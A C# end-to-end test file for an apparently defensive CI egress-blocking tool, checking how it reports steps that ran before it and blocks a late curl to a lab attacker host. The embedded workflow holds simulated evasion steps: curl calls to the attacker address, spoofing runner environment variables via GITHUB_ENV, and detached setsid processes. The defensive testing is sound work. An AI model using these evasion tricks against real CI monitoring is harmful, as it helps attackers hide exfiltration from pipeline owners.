using System.Text.Json;
using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.EndToEnd.Tests;

/// <summary>
/// The Action in the middle of a job, as a part of another action: it has no `pre` then, and steps have run before it. It says which
/// and for how long (B9), and what they did does not choose what is watched.
/// </summary>
public sealed class LateActionTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Attacker = $"curl -sS --max-time 5 http://{LabAddresses.Attacker}";

    /// <summary>By the environment of later steps, of a child that stays, and of a process that passes for a child of the worker.</summary>
    private const string Workflow = $"""
        name: Late
        on: push
        jobs:
          build:
            runs-on: self-hosted
            steps:
              - name: Comes first
                run: |
                  {Attacker}/first
                  echo RUNNER_ENVIRONMENT=github-hosted >> "$GITHUB_ENV"
                  echo GITHUB_SERVER_URL=https://github.com >> "$GITHUB_ENV"
                  export RUNNER_ENVIRONMENT=github-hosted GITHUB_SERVER_URL=https://github.com
                  setsid sleep 60 < /dev/null > /dev/null 2>&1 &
                  exec "$PROGRAMS/sibling" sh -c 'setsid sleep 60 < /dev/null > /dev/null 2>&1 &'
              - name: Comes second
                run: sleep 0.5
              - name: Protect
                id: protect
                uses: test/wrapped@v1
                with:
                  mode: block
                  endpoints: v4.test:80
              - name: After
                id: after
                run: |
                  sudo -n "$AGENT" job status --json > "$SIGNS/status"
                  curl -sS --max-time 5 http://v4.test/allowed
                  {Attacker}/after || echo "curl says $?"
        """;

    [Theory]
    [InlineData("self-hosted", "https://github.com", "job")]
    [InlineData(null, "https://ghe.example.com", "job")]
    [InlineData("github-hosted", "https://github.com", "machine")]
    public async Task It_says_what_it_has_missed_and_asks_the_runner_alone_what_machine_this_is(
        string? environment, string server, string scope)
    {
        fixture.Machine.Network.World.Clear();
        using StartedRun started = fixture.Machine.Start(
            Workflow,
            ["--user", RunnerMachine.User, "--server-url", server, .. environment is null ? (string[])[] : ["--runner-environment", environment]]);
        WorkflowRun run = await started.EndAsync();
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/first ") && run.Traffic.Contains("/allowed "), run.ToString());
        Assert.False(run.Traffic.Contains("/after "), run.ToString());
        Assert.Equal(["refused"], run.Report.Verdicts("after", LabAddresses.Attacker));

        JsonElement status = RunnerMachine.ReadJson(Path.Combine(started.Folder, "status"));
        Assert.Equal(scope, status.GetProperty("jobs")[0].GetProperty("scope").GetString());

        // uncoveredSeconds and stepsBefore, as the step that protects shows them.
        JsonElement gap = Assert.Single(
            run.Step("Protect").GetProperty("annotations").EnumerateArray(),
            one => one.GetProperty("title").GetString() == "Protection has gaps" && one.ToString().Contains("began", StringComparison.Ordinal));
        string message = gap.GetProperty("message").GetString()!;
        Assert.EndsWith("steps that ran before: Comes first, Comes second", message, StringComparison.Ordinal);
        Assert.True(double.Parse(message.Split(' ')[2], System.Globalization.CultureInfo.InvariantCulture) is > 0.5 and < 60, message);
        Assert.Contains(
            LabAddresses.Attacker, run.Step("Post Protect").GetProperty("summary").GetString(), StringComparison.Ordinal);
    }
}
